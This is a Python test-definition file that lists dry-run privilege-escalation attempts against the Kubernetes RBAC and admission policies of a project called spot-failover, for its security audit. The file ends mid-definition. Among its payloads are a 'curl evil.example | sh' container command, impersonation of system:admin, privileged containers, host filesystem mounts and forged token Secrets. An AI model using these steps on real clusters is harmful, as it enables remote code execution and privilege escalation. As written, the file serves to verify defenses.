"""The fixed list of escalation attempts, made with each of spot-failover's identities.

Each :class:`Attempt` is one request made with one identity of a :class:`Stage`, in dry run,
and what the API server should answer: refused (403) by RBAC or by a named admission policy of
deploy/, or allowed (what the identity is for: these show that the identity is real and that a
refusal is not an accident). Every attack is built so that, were it allowed, it would succeed
(2xx; exec would go on to the kubelet): the names it creates are free, the objects it changes or
deletes exist. An attack counts as allowed when the API server answered anything but a refusal
(401 or 403): a status that says a request got past authorization, whatever else went wrong with
it, is not a refusal. The list is the
one source of truth for ``make audit`` (:mod:`benchmarks.security_audit`) and for
``tests/webhook/test_escalation.py``.

``issue`` is the item of the security review (issue 11) that an attack belongs to: 1 the
webhook's RBAC writes, 2 rights that linger, 3 Lease squatting, 5 names that collide, 6 the
certificate Job and forged Events; 0 the sidecar's scope from before that review; 7 the warden
(issue 10, item 5: a leader of last resort with cluster-wide rights, narrowed by admission).
"""

from __future__ import annotations

import base64
import dataclasses
import enum
import time
import uuid
from collections.abc import Callable, Iterator
from typing import Any, Final

from kubernetes import client

from devtools.security.identities import RBAC, Answer, answer
from devtools.security.stage import (
    NOT_OURS,
    OTHER_ROLE,
    TEAM_BINDING,
    TEAM_LEASE,
    UNBOUND,
    WEB,
    WEB_B,
    PodIdentity,
    Stage,
)
from spot_common import contract
from webhook.bootstrap import Names
from webhook.core import rbac
from webhook.core.owners import DeploymentFacts

DRY: Final = {"dry_run": "All"}
ALLOWED: Final = "allowed"
SETTLE_S: Final = 20.0
"""How long an answer may differ from the expected one before it counts: a policy just
created is enforced within seconds."""

SCOPE: Final = "spot-failover-sidecar-scope"
PODS: Final = "spot-failover-sidecar-pods"
EVENTS: Final = "spot-failover-sidecar-events"
LEASES: Final = "spot-failover-lease-holders"
NEVER_WRITES: Final = "spot-failover-webhook-never-writes"
WEBHOOK_RBAC: Final = "spot-failover-webhook-rbac"
CABUNDLE_ONLY: Final = "spot-failover-certgen-cabundle-only"
CERTGEN_SECRETS: Final = "spot-failover-certgen-secrets"
WARDEN_SCOPE: Final = "spot-failover-warden-scope"
WARDEN_LEASES: Final = "spot-failover-warden-leases"
WARDEN_EVENTS: Final = "spot-failover-warden-events"


class Identity(enum.StrEnum):
    WEBHOOK = "webhook"
    CERTGEN = "certificate Job"
    SIDECAR = "sidecar (pod-bound token)"
    OPTED_OUT = "sidecar after an opt-out, webhook down"
    MOVED = "sidecar's old account after a ServiceAccount change, webhook down"
    WARDEN = "warden"


Call = Callable[[Stage], object]


@dataclasses.dataclass(frozen=True)
class Attempt:
    identity: Identity
    what: str
    expected: str
    """:data:`ALLOWED`, :data:`RBAC`, or the name of the admission policy that refuses it."""
    call: Call = dataclasses.field(compare=False, repr=False)
    issue: int = 0

    @property
    def attack(self) -> bool:
        return self.expected != ALLOWED

    @property
    def id(self) -> str:
        return f"{self.identity}: {self.what}"


@dataclasses.dataclass(frozen=True)
class Outcome:
    attempt: Attempt
    answer: Answer

    @property
    def as_expected(self) -> bool:
        if not self.attempt.attack:
            return self.answer.allowed
        return self.answer.status == 403 and self.answer.refused_by == self.attempt.expected


def make(stage: Stage, attempt: Attempt, settle_s: float = SETTLE_S) -> Outcome:
    """Make ``attempt``; again while the answer is not the expected one, for ``settle_s``."""
    deadline = time.monotonic() + settle_s
    while True:
        outcome = Outcome(attempt, answer(lambda: attempt.call(stage)))
        if outcome.as_expected or time.monotonic() >= deadline:
            return outcome
        time.sleep(0.25)


# --- building blocks --------------------------------------------------------------------------


def _fresh(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:6]}"


def _rbac_api(api: client.ApiClient) -> client.RbacAuthorizationV1Api:
    return client.RbacAuthorizationV1Api(api)


def _impersonating(api: client.ApiClient) -> object:
    """A request made as ``system:admin`` (Impersonate-User) with the identity's token."""
    impostor = client.ApiClient(api.configuration, "Impersonate-User", "system:admin")
    try:
        return client.CoreV1Api(impostor).list_namespace()
    finally:
        impostor.close()


def _exec(api: client.ApiClient, namespace: str, pod: str) -> object:
    """``kubectl exec``'s authorization: create on pods/exec."""
    return api.call_api(
        f"/api/v1/namespaces/{namespace}/pods/{pod}/exec",
        "POST",
        query_params=[("command", "sh"), ("stdout", "true")],
        auth_settings=["BearerToken"],
    )


def _containers(change: dict[str, Any]) -> dict[str, Any]:
    return {"spec": {"template": {"spec": {"containers": [{"name": "app", **change}]}}}}


def _pod_spec(change: dict[str, Any]) -> dict[str, Any]:
    return {"spec": {"template": {"spec": change}}}


MOVE: Final = _pod_spec({"nodeSelector": {"pool": "fargate"}})
IMAGE: Final = _containers({"image": "registry.example/evil:1"})
COMMAND: Final = _containers({"command": ["sh", "-c", "curl evil.example | sh"]})
REPLICAS: Final = {"spec": {"replicas": 5}}
DOOMED: Final = {"metadata": {"annotations": {contract.POD_DELETION_COST: "-2147483648"}}}


def _strategy(strategy: dict[str, Any]) -> dict[str, Any]:
    return {"spec": {"strategy": strategy}}


def _patch_own(who: Callable[[Stage], PodIdentity], body: dict[str, Any]) -> Call:
    def call(stage: Stage) -> object:
        identity = who(stage)
        return client.AppsV1Api(identity.api).patch_namespaced_deployment(
            identity.deployment, identity.namespace, body, **DRY
        )

    return call


def _patch_pod(who: Callable[[Stage], PodIdentity], body: dict[str, Any], *, own: bool) -> Call:
    def call(stage: Stage) -> object:
        identity = who(stage)
        pod = identity.pod if own else stage.not_ours_pod
        return client.CoreV1Api(identity.api).patch_namespaced_pod(
            pod, identity.namespace, body, **DRY
        )

    return call


def _take_lease(
    who: Callable[[Stage], PodIdentity],
    *,
    of: str | None = None,
    holder: str | None = None,
    duration_s: int = 15,
) -> Call:
    """Write the Lease of Deployment ``of`` (default: its own) naming ``holder`` (default: its
    pod) for ``duration_s``, with the resourceVersion just read."""

    def call(stage: Stage) -> object:
        identity = who(stage)
        leases = client.CoordinationV1Api(identity.api)
        name = contract.lease_name(of or identity.deployment)
        current = leases.read_namespaced_lease(name, identity.namespace)
        current.spec.holder_identity = holder or identity.pod
        current.spec.lease_duration_seconds = duration_s
        return leases.replace_namespaced_lease(name, identity.namespace, current, **DRY)

    return call


def _event_about(who: Callable[[Stage], PodIdentity], deployment: str | None = None) -> Call:
    def call(stage: Stage) -> object:
        identity = who(stage)
        event = {
            "metadata": {"generateName": "spot-failover-"},
            "involvedObject": {
                "apiVersion": "apps/v1",
                "kind": "Deployment",
                "name": deployment or identity.deployment,
                "namespace": identity.namespace,
            },
            "source": {"component": "spot-failover"},
            "reason": "MovedToFargate",
            "message": "moved to Fargate",
            "type": "Normal",
        }
        return client.CoreV1Api(identity.api).create_namespaced_event(
            identity.namespace, event, **DRY
        )

    return call


def _sidecar(stage: Stage) -> PodIdentity:
    return stage.sidecar


def _opted_out(stage: Stage) -> PodIdentity:
    return stage.opted_out


def _moved(stage: Stage) -> PodIdentity:
    return stage.moved


# --- the webhook ------------------------------------------------------------------------------


def _facts(stage: Stage, name: str, account: str = "default") -> DeploymentFacts:
    return DeploymentFacts(stage.namespace, name, "uid", account, {})


def _create_role(build: Callable[[Stage], dict[str, Any]], namespace: str | None = None) -> Call:
    def call(stage: Stage) -> object:
        role = build(stage)
        return _rbac_api(stage.webhook).create_namespaced_role(
            namespace or stage.namespace, role, **DRY
        )

    return call


def _sidecar_role(stage: Stage, extra: dict[str, Any] | None = None) -> dict[str, Any]:
    role = rbac.role(_facts(stage, _fresh("web")))
    if extra is not None:
        role["rules"].append(extra)
    return role


def _bind_unbound(
    role_ref: dict[str, str] | None = None, subject: dict[str, str] | None = None
) -> Call:
    """A RoleBinding of the sidecar Role of ``unbound`` (it exists; nothing binds it), changed."""

    def call(stage: Stage) -> object:
        binding = rbac.role_binding(_facts(stage, UNBOUND))
        if role_ref is not None:
            binding["roleRef"] = {"apiGroup": rbac.RBAC_GROUP, **role_ref}
        if subject is not None:
            binding["subjects"] = [subject]
        return _rbac_api(stage.webhook).create_namespaced_role_binding(
            stage.namespace, binding, **DRY
        )

    return call


def _cluster_binding(
    role: str, subject: dict[str, str], *, managed: bool, name: str | None = None
) -> Call:
    def call(stage: Stage) -> object:
        labels = rbac.node_binding((stage.namespace, "x"))["metadata"]["labels"] if managed else {}
        binding = {
            "metadata": {"name": name or _fresh(rbac.NODE_BINDING_PREFIX + "x"), "labels": labels},
            "roleRef": {"apiGroup": rbac.RBAC_GROUP, "kind": "ClusterRole", "name": role},
            "subjects": [subject],
        }
        return _rbac_api(stage.webhook).create_cluster_role_binding(binding, **DRY)

    return call


def _nodes_to_everyone(stage: Stage) -> object:
    binding = rbac.node_binding((stage.namespace, "x"))
    binding["metadata"]["name"] = f"{rbac.NODE_BINDING_PREFIX}{stage.namespace}.everyone"
    binding["subjects"] = [
        {"kind": "Group", "apiGroup": rbac.RBAC_GROUP, "name": "system:authenticated"}
    ]
    return _rbac_api(stage.webhook).create_cluster_role_binding(binding, **DRY)


def _node_events_binding(
    *, namespace: str = contract.NODE_EVENTS_NAMESPACE, subject: dict[str, str] | None = None
) -> Call:
    """An account's node Events RoleBinding, as the webhook makes it, put in ``namespace`` and
    given ``subject`` instead."""

    def call(stage: Stage) -> object:
        binding = rbac.node_events_binding((stage.namespace, _fresh("sa")))
        binding["metadata"]["namespace"] = namespace
        if subject is not None:
            binding["subjects"] = [subject]
        return _rbac_api(stage.webhook).create_namespaced_role_binding(namespace, binding, **DRY)

    return call


def _node_events_everywhere(stage: Stage) -> object:
    binding = rbac.node_binding((stage.namespace, _fresh("sa")))
    binding["roleRef"]["name"] = rbac.NODE_EVENTS_CLUSTER_ROLE
    return _rbac_api(stage.webhook).create_cluster_role_binding(binding, **DRY)


def _lease(stage: Stage, spec: dict[str, Any]) -> object:
    lease = rbac.lease(_facts(stage, _fresh("web")))
    lease["spec"] = spec
    return client.CoordinationV1Api(stage.webhook).create_namespaced_lease(
        stage.namespace, lease, **DRY
    )


USER: Final = {"kind": "User", "apiGroup": rbac.RBAC_GROUP, "name": "mallory"}
WEBHOOK_CLUSTER_ROLE: Final = "spot-failover-webhook"


def _webhook_attempts() -> Iterator[Attempt]:
    w = Identity.WEBHOOK
    yield Attempt(
        w,
        "bind its own ClusterRole to a user",
        WEBHOOK_RBAC,
        _cluster_binding(WEBHOOK_CLUSTER_ROLE, USER, managed=False),
        1,
    )
    yield Attempt(
        w,
        "bind its own ClusterRole to a user, labelled as ours",
        WEBHOOK_RBAC,
        _cluster_binding(WEBHOOK_CLUSTER_ROLE, USER, managed=True),
        1,
    )
    yield Attempt(
        w, "bind the nodes ClusterRole to every user", WEBHOOK_RBAC, _nodes_to_everyone, 1
    )
    yield Attempt(
        w,
        "bind the node Events ClusterRole outside default",
        WEBHOOK_RBAC,
        lambda s: _node_events_binding(namespace=s.namespace)(s),
        1,
    )
    yield Attempt(
        w,
        "bind the node Events ClusterRole cluster-wide",
        WEBHOOK_RBAC,
        _node_events_everywhere,
        1,
    )
    yield Attempt(
        w,
        "bind the node Events ClusterRole to every user",
        WEBHOOK_RBAC,
        _node_events_binding(
            subject={"kind": "Group", "apiGroup": rbac.RBAC_GROUP, "name": "system:authenticated"}
        ),
        1,
    )
    yield Attempt(
        w,
        "delete another team's RoleBinding",
        WEBHOOK_RBAC,
        lambda s: _rbac_api(s.webhook).delete_namespaced_role_binding(
            TEAM_BINDING, s.namespace, **DRY
        ),
        1,
    )
    yield Attempt(
        w,
        "label another team's RoleBinding as ours",
        WEBHOOK_RBAC,
        lambda s: _rbac_api(s.webhook).patch_namespaced_role_binding(
            TEAM_BINDING,
            s.namespace,
            {"metadata": {"labels": rbac.role(_facts(s, "x"))["metadata"]["labels"]}},
            **DRY,
        ),
        1,
    )
    yield Attempt(
        w,
        "delete a Role that is not ours",
        WEBHOOK_RBAC,
        lambda s: _rbac_api(s.webhook).delete_namespaced_role(OTHER_ROLE, s.namespace, **DRY),
        1,
    )
    yield Attempt(
        w,
        "write a Role that reads Secrets",
        RBAC,
        _create_role(
            lambda s: _sidecar_role(
                s, {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}
            )
        ),
        1,
    )
    yield Attempt(
        w,
        "write a sidecar Role that also updates every Deployment",
        WEBHOOK_RBAC,
        _create_role(
            lambda s: _sidecar_role(
                s, {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["update"]}
            )
        ),
        1,
    )
    yield Attempt(
        w,
        "write a sidecar Role that also writes RoleBindings",
        WEBHOOK_RBAC,
        _create_role(
            lambda s: _sidecar_role(
                s,
                {
                    "apiGroups": [rbac.RBAC_GROUP],
                    "resources": ["rolebindings"],
                    "verbs": ["create"],
                },
            )
        ),
        1,
    )
    yield Attempt(
        w,
        "write a sidecar Role in kube-system",
        WEBHOOK_RBAC,
        _create_role(
            lambda _: rbac.role(DeploymentFacts("kube-system", _fresh("coredns"), "uid", "x", {})),
            namespace="kube-system",
        ),
        1,
    )
    yield Attempt(
        w,
        "write one Deployment's Role with another's rules",
        WEBHOOK_RBAC,
        _create_role(lambda s: {**_sidecar_role(s), "rules": contract.sidecar_role_rules(WEB)}),
        5,
    )

    def shortened_for_a_short_name(stage: Stage) -> dict[str, Any]:
        role = _sidecar_role(stage)
        name = role["metadata"]["name"]
        role["metadata"]["name"] = name + "x" * (contract.MAX_NAME - len(name))
        return role

    yield Attempt(
        w,
        "write a Role under a shortened name for a Deployment whose name is short",
        WEBHOOK_RBAC,
        _create_role(shortened_for_a_short_name),
        5,
    )
    yield Attempt(
        w,
        "bind a sidecar Role name to its own ClusterRole",
        WEBHOOK_RBAC,
        _bind_unbound(role_ref={"kind": "ClusterRole", "name": WEBHOOK_CLUSTER_ROLE}),
        1,
    )
    yield Attempt(
        w,
        "bind another Role under a sidecar Role's name",
        WEBHOOK_RBAC,
        _bind_unbound(role_ref={"kind": "Role", "name": OTHER_ROLE}),
        1,
    )
    yield Attempt(
        w,
        "bind a sidecar Role to an account of kube-system",
        WEBHOOK_RBAC,
        _bind_unbound(
            subject={"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}
        ),
        1,
    )
    yield Attempt(w, "bind a sidecar Role to a user", WEBHOOK_RBAC, _bind_unbound(subject=USER), 1)
    yield Attempt(
        w,
        "write a ClusterRole",
        RBAC,
        lambda s: _rbac_api(s.webhook).create_cluster_role(
            {"metadata": {"name": _fresh("spot-failover-x")}, "rules": []}, **DRY
        ),
        1,
    )
    yield Attempt(
        w,
        "create a Lease already held, for a million seconds",
        NEVER_WRITES,
        lambda s: _lease(s, {"holderIdentity": "mallory", "leaseDurationSeconds": 10**6}),
        3,
    )
    yield Attempt(
        w,
        "change a Deployment's replicas",
        NEVER_WRITES,
        lambda s: client.AppsV1Api(s.webhook).patch_namespaced_deployment(
            WEB, s.namespace, REPLICAS, **DRY
        ),
        1,
    )
    yield Attempt(
        w,
        "mark a pod for deletion first",
        NEVER_WRITES,
        lambda s: client.CoreV1Api(s.webhook).patch_namespaced_pod(
            s.not_ours_pod, s.namespace, DOOMED, **DRY
        ),
        1,
    )
    yield Attempt(
        w,
        "list Secrets",
        RBAC,
        lambda s: client.CoreV1Api(s.webhook).list_namespaced_secret(s.namespace),
        1,
    )
    yield Attempt(
        w, "exec into a pod", RBAC, lambda s: _exec(s.webhook, s.namespace, s.not_ours_pod), 1
    )
    yield Attempt(w, "impersonate system:admin", RBAC, lambda s: _impersonating(s.webhook), 1)
    # What it is for.
    yield Attempt(w, "write a sidecar Role", ALLOWED, _create_role(_sidecar_role))
    yield Attempt(
        w,
        "write the sidecar Role of a Deployment named with 240 characters",
        ALLOWED,
        _create_role(lambda s: rbac.role(_facts(s, "d" * 240))),
    )
    yield Attempt(w, "bind a sidecar Role to its Deployment's account", ALLOWED, _bind_unbound())
    yield Attempt(
        w,
        "bind the nodes ClusterRole to one account",
        ALLOWED,
        lambda s: _rbac_api(s.webhook).create_cluster_role_binding(
            rbac.node_binding((s.namespace, _fresh("sa"))), **DRY
        ),
    )
    yield Attempt(
        w,
        "bind the node Events ClusterRole to one account, in default",
        ALLOWED,
        _node_events_binding(),
    )
    yield Attempt(w, "create a Lease without a holder", ALLOWED, lambda s: _lease(s, {}))


# --- the certificate Job ----------------------------------------------------------------------


def _replace_configuration(change: Callable[[dict[str, Any], Stage], object]) -> Call:
    """Read the webhook configuration, change its first webhook, write it all back."""

    def call(stage: Stage) -> object:
        admission = client.AdmissionregistrationV1Api(stage.certgen)
        name = stage.webhook_configuration
        body: dict[str, Any] = stage.certgen.sanitize_for_serialization(
            admission.read_mutating_webhook_configuration(name)
        )
        change(body["webhooks"][0], stage)
        return admission.replace_mutating_webhook_configuration(name, body, **DRY)

    return call


def _create_secret(stage: Stage, secret: dict[str, Any]) -> object:
    return client.CoreV1Api(stage.certgen).create_namespaced_secret(stage.namespace, secret, **DRY)


def _certgen_attempts() -> Iterator[Attempt]:
    c = Identity.CERTGEN
    changes: list[tuple[str, Callable[[dict[str, Any], Stage], object]]] = [
        (
            "point the webhook at another service",
            lambda hook, _: hook["clientConfig"]["service"].update(name="evil"),
        ),
        ("widen the webhook to every namespace", lambda hook, _: hook.update(namespaceSelector={})),
        (
            "make the webhook's failure policy Fail",
            lambda hook, _: hook.update(failurePolicy="Fail"),
        ),
        (
            "widen the webhook's rules to every resource",
            lambda hook, _: hook["rules"][0].update(resources=["*"]),
        ),
    ]
    for what, change in changes:
        yield Attempt(c, what, CABUNDLE_ONLY, _replace_configuration(change), 6)
    yield Attempt(
        c,
        "delete the webhook configuration",
        RBAC,
        lambda s: client.AdmissionregistrationV1Api(
            s.certgen
        ).delete_mutating_webhook_configuration(s.webhook_configuration, **DRY),
        6,
    )
    yield Attempt(
        c,
        "change another webhook configuration",
        RBAC,
        lambda s: client.AdmissionregistrationV1Api(s.certgen).patch_mutating_webhook_configuration(
            s.other_webhook_configuration, {"metadata": {"labels": {"x": "y"}}}, **DRY
        ),
        6,
    )
    yield Attempt(
        c,
        "read another Secret",
        RBAC,
        lambda s: client.CoreV1Api(s.certgen).read_namespaced_secret(
            "app-credentials", s.namespace
        ),
        6,
    )
    yield Attempt(
        c,
        "list Secrets",
        RBAC,
        lambda s: client.CoreV1Api(s.certgen).list_namespaced_secret(s.namespace),
        6,
    )
    yield Attempt(
        c,
        "create a token Secret for the webhook's account",
        CERTGEN_SECRETS,
        lambda s: _create_secret(
            s,
            {
                "metadata": {
                    "name": _fresh("webhook-token"),
                    "annotations": {"kubernetes.io/service-account.name": "spot-failover-webhook"},
                },
                "type": "kubernetes.io/service-account-token",
            },
        ),
        6,
    )
    yield Attempt(
        c,
        "create a Secret by another name",
        CERTGEN_SECRETS,
        lambda s: _create_secret(
            s, {"metadata": {"name": _fresh("app-credentials")}, "stringData": {"k": "v"}}
        ),
        6,
    )
    yield Attempt(c, "impersonate system:admin", RBAC, lambda s: _impersonating(s.certgen), 6)

    yield Attempt(
        c,
        "create its CA Secret",
        ALLOWED,
        lambda s: _create_secret(
            s,
            {
                "metadata": {"name": Names().ca_secret},
                "data": {"ca.crt": "", "ca.key": ""},
            },
        ),
    )

    def new_ca_bundle(hook: dict[str, Any], stage: Stage) -> None:
        hook["clientConfig"]["caBundle"] = base64.b64encode(stage.ca_pem).decode()

    yield Attempt(c, "write a new caBundle", ALLOWED, _replace_configuration(new_ca_bundle))


# --- the sidecar ------------------------------------------------------------------------------


def _deployment_changes(
    identity: Identity, who: Callable[[Stage], PodIdentity], issue: int
) -> Iterator[Attempt]:
    for what, body in (
        ("change its image", IMAGE),
        ("change its command", COMMAND),
        ("change its replicas", REPLICAS),
    ):
        yield Attempt(identity, what, SCOPE, _patch_own(who, body), issue)


def _sidecar_attempts() -> Iterator[Attempt]:
    s = Identity.SIDECAR
    yield from _deployment_changes(s, _sidecar, 0)
    scope_changes: list[tuple[str, dict[str, Any]]] = [
        ("opt its Deployment out", {"metadata": {"annotations": {contract.ENABLED: "false"}}}),
        (
            "choose its own sidecar image",
            {"metadata": {"annotations": {contract.SIDECAR_IMAGE: "registry.example/evil:1"}}},
        ),
        (
            "add a pod label a Service might select",
            {"spec": {"template": {"metadata": {"labels": {"role": "payments"}}}}},
        ),
        ("run as another ServiceAccount", _pod_spec({"serviceAccountName": "default"})),
        ("use the host's network", _pod_spec({"hostNetwork": True})),
        (
            "mount the host's filesystem",
            _pod_spec({"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}),
        ),
        ("run privileged", _containers({"securityContext": {"privileged": True}})),
        (
            "set an arbitrary rollout strategy",
            _strategy(
                {"type": "RollingUpdate", "rollingUpdate": {"maxSurge": 5, "maxUnavailable": 3}}
            ),
        ),
        (
            "take every pod down at once",
            _strategy(
                {
                    "type": "RollingUpdate",
                    "rollingUpdate": {"maxSurge": "100%", "maxUnavailable": "100%"},
                }
            ),
        ),
        ("switch to Recreate", _strategy({"type": "Recreate", "rollingUpdate": None})),
    ]
    for what, body in scope_changes:
        yield Attempt(s, what, SCOPE, _patch_own(_sidecar, body))
    yield Attempt(
        s,
        "change a Deployment not opted in",
        RBAC,
        lambda st: client.AppsV1Api(st.sidecar.api).patch_namespaced_deployment(
            NOT_OURS, st.namespace, MOVE, **DRY
        ),
    )
    yield Attempt(
        s,
        "read a Deployment not opted in",
        RBAC,
        lambda st: client.AppsV1Api(st.sidecar.api).read_namespaced_deployment(
            NOT_OURS, st.namespace
        ),
    )
    # The Lease and Events.
    yield Attempt(
        s,
        "create a Lease to squat on",
        RBAC,
        lambda st: client.CoordinationV1Api(st.sidecar.api).create_namespaced_lease(
            st.namespace, {"metadata": {"name": contract.lease_name(_fresh("next"))}}, **DRY
        ),
        3,
    )
    yield Attempt(
        s,
        "hold another Deployment's Lease (same account)",
        LEASES,
        _take_lease(_sidecar, of=WEB),
        3,
    )
    yield Attempt(
        s,
        "hold its Lease under another pod's name",
        LEASES,
        _take_lease(_sidecar, holder="web-b-7d9f8c6b5-x2b4q"),
        3,
    )
    yield Attempt(
        s,
        "hold its Lease for a million seconds",
        LEASES,
        _take_lease(_sidecar, duration_s=10**6),
        3,
    )
    yield Attempt(
        s,
        "delete another Deployment's Lease",
        RBAC,
        lambda st: client.CoordinationV1Api(st.sidecar.api).delete_namespaced_lease(
            contract.lease_name(WEB), st.namespace, **DRY
        ),
        3,
    )
    yield Attempt(
        s, "write an Event about another Deployment", EVENTS, _event_about(_sidecar, WEB), 6
    )
    # Pods.
    pod_changes: list[tuple[str, dict[str, Any]]] = [
        (
            "give its pod another deletion cost",
            {"metadata": {"annotations": {contract.POD_DELETION_COST: "-5"}}},
        ),
        ("annotate its pod", {"metadata": {"annotations": {"team": "payments"}}}),
        ("relabel its pod", {"metadata": {"labels": {"app": "stolen"}}}),
        ("change its pod's spec", {"spec": {"activeDeadlineSeconds": 1}}),
        ("change its pod's image", {"spec": {"containers": [{"name": "app", "image": "evil:1"}]}}),
    ]
    for what, body in pod_changes:
        yield Attempt(s, what, PODS, _patch_pod(_sidecar, body, own=True))
    yield Attempt(
        s,
        "mark a pod of another account for deletion",
        PODS,
        _patch_pod(_sidecar, DOOMED, own=False),
    )
    yield Attempt(
        s, "exec into its pod", RBAC, lambda st: _exec(st.sidecar.api, st.namespace, st.sidecar.pod)
    )
    yield Attempt(
        s,
        "list Secrets",
        RBAC,
        lambda st: client.CoreV1Api(st.sidecar.api).list_namespaced_secret(st.namespace),
    )
    yield Attempt(
        s,
        "create a pod",
        RBAC,
        lambda st: client.CoreV1Api(st.sidecar.api).create_namespaced_pod(
            st.namespace,
            {
                "metadata": {"name": _fresh("x")},
                "spec": {"containers": [{"name": "x", "image": "x"}]},
            },
            **DRY,
        ),
    )
    yield Attempt(s, "impersonate system:admin", RBAC, lambda st: _impersonating(st.sidecar.api))
    # Storage: it may get a claim of its namespace, a volume or a class by name, nothing more.
    yield Attempt(
        s,
        "list the claims of its namespace",
        RBAC,
        lambda st: client.CoreV1Api(st.sidecar.api).list_namespaced_persistent_volume_claim(
            st.namespace
        ),
    )
    yield Attempt(
        s,
        "list every PersistentVolume",
        RBAC,
        lambda st: client.CoreV1Api(st.sidecar.api).list_persistent_volume(),
    )
    yield Attempt(
        s,
        "create a claim",
        RBAC,
        lambda st: client.CoreV1Api(st.sidecar.api).create_namespaced_persistent_volume_claim(
            st.namespace,
            {
                "metadata": {"name": _fresh("x")},
                "spec": {
                    "accessModes": ["ReadWriteOnce"],
                    "resources": {"requests": {"storage": "1Gi"}},
                },
            },
            **DRY,
        ),
    )
    # Events it may not read (it may read those in default: where the Node Events are).
    for what, namespace in (
        ("read the Events of its own namespace", None),
        ("read the Events of kube-system", "kube-system"),
    ):
        yield Attempt(
            s,
            what,
            RBAC,
            lambda st, n=namespace: client.CoreV1Api(st.sidecar.api).list_namespaced_event(  # type: ignore[misc]
                n or st.namespace
            ),
        )
    yield Attempt(
        s,
        "list Secrets in default",
        RBAC,
        lambda st: client.CoreV1Api(st.sidecar.api).list_namespaced_secret(
            contract.NODE_EVENTS_NAMESPACE
        ),
    )
    yield Attempt(
        s,
        "write an Event in default",
        RBAC,
        lambda st: client.CoreV1Api(st.sidecar.api).create_namespaced_event(
            contract.NODE_EVENTS_NAMESPACE,
            {
                "metadata": {"generateName": "spot-failover-"},
                "involvedObject": {"apiVersion": "v1", "kind": "Node", "name": "spot-0"},
                "reason": "SpotInterrupted",
                "message": "Spot interruption warning was triggered",
                "type": "Warning",
            },
            **DRY,
        ),
    )
    # What it is for.
    yield Attempt(s, "move its Deployment", ALLOWED, _patch_own(_sidecar, MOVE))
    yield Attempt(s, "hold its own Lease", ALLOWED, _take_lease(_sidecar))
    yield Attempt(s, "write an Event about its own Deployment", ALLOWED, _event_about(_sidecar))
    yield Attempt(
        s, "mark its own pod for deletion first", ALLOWED, _patch_pod(_sidecar, DOOMED, own=True)
    )
    yield Attempt(
        s,
        "read the Events about Nodes in default",
        ALLOWED,
        lambda st: client.CoreV1Api(st.sidecar.api).list_namespaced_event(
            contract.NODE_EVENTS_NAMESPACE, field_selector="involvedObject.kind=Node"
        ),
    )


def _lingering_attempts() -> Iterator[Attempt]:
    for identity, who in ((Identity.OPTED_OUT, _opted_out), (Identity.MOVED, _moved)):
        yield from _deployment_changes(identity, who, 2)
        yield Attempt(identity, "move its Deployment", ALLOWED, _patch_own(who, MOVE))
    yield Attempt(
        Identity.OPTED_OUT,
        "hold its Lease for a million seconds",
        LEASES,
        _take_lease(_opted_out, duration_s=10**6),
        2,
    )


# --- the warden -------------------------------------------------------------------------------


def _as_warden(deployment: str, change: Callable[[dict[str, Any]], None]) -> Call:
    """The warden's write: read ``deployment``, change the copy, replace it (the warden may
    update, never patch: it writes as a sidecar does)."""

    def call(stage: Stage) -> object:
        apps = client.AppsV1Api(stage.warden)
        body = stage.warden.sanitize_for_serialization(
            apps.read_namespaced_deployment(deployment, stage.namespace)
        )
        body.pop("status", None)
        change(body)
        return apps.replace_namespaced_deployment(deployment, stage.namespace, body, **DRY)

    return call


def _annotate(key: str, value: str) -> Callable[[dict[str, Any]], None]:
    def change(body: dict[str, Any]) -> None:
        body["metadata"].setdefault("annotations", {})[key] = value

    return change


def _template_spec(change: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    def apply(body: dict[str, Any]) -> None:
        body["spec"]["template"]["spec"].update(change)

    return apply


def _image(body: dict[str, Any]) -> None:
    body["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.example/evil:1"


def _replicas(body: dict[str, Any]) -> None:
    body["spec"]["replicas"] = 5


def _warden_lease(name: str, *, holder: str, duration_s: int = 15) -> Call:
    def call(stage: Stage) -> object:
        leases = client.CoordinationV1Api(stage.warden)
        current = leases.read_namespaced_lease(name, stage.namespace)
        current.spec.holder_identity = holder
        current.spec.lease_duration_seconds = duration_s
        return leases.replace_namespaced_lease(name, stage.namespace, current, **DRY)

    return call


def _warden_event(kind: str, name: str, api_version: str) -> Call:
    def call(stage: Stage) -> object:
        event = {
            "metadata": {"generateName": "spot-failover-"},
            "involvedObject": {
                "apiVersion": api_version,
                "kind": kind,
                "name": name,
                "namespace": stage.namespace,
            },
            "source": {"component": "spot-failover"},
            "reason": "RolledBack",
            "message": "move to Fargate failed",
            "type": "Warning",
        }
        return client.CoreV1Api(stage.warden).create_namespaced_event(stage.namespace, event, **DRY)

    return call


WARDEN_HOLDER: Final = contract.WARDEN_HOLDER_PREFIX + "spot-failover-warden-6c5d8-x7k2p"


def _restore(body: dict[str, Any]) -> None:
    """What a rollback writes: the scheduling back, and why."""
    _annotate(contract.MESSAGE, "move to Fargate failed; pod template restored")(body)
    _template_spec({"nodeSelector": {"pool": "spot"}})(body)


def _warden_attempts() -> Iterator[Attempt]:
    w = Identity.WARDEN
    message = _annotate(contract.MESSAGE, "move to Fargate failed; pod template restored")
    for what, deployment, change in (
        ("write a Deployment whose move is settled", WEB_B, message),
        ("write a Deployment not opted in", NOT_OURS, message),
        ("change the image of a Deployment mid-move", WEB, _image),
        ("change the replicas of a Deployment mid-move", WEB, _replicas),
        ("opt a Deployment out mid-move", WEB, _annotate(contract.ENABLED, "false")),
        (
            "choose the sidecar image of a Deployment mid-move",
            WEB,
            _annotate(contract.SIDECAR_IMAGE, "registry.example/evil:1"),
        ),
        (
            "run a Deployment mid-move as another ServiceAccount",
            WEB,
            _template_spec({"serviceAccountName": "default"}),
        ),
        (
            "put a Deployment mid-move on the host's network",
            WEB,
            _template_spec({"hostNetwork": True}),
        ),
    ):
        yield Attempt(w, what, WARDEN_SCOPE, _as_warden(deployment, change), 7)
    yield Attempt(
        w,
        "patch a Deployment",
        RBAC,
        lambda st: client.AppsV1Api(st.warden).patch_namespaced_deployment(
            WEB, st.namespace, {"metadata": {"annotations": {contract.MESSAGE: "x"}}}, **DRY
        ),
        7,
    )
    yield Attempt(
        w,
        "create a Deployment",
        RBAC,
        lambda st: client.AppsV1Api(st.warden).create_namespaced_deployment(
            st.namespace,
            {
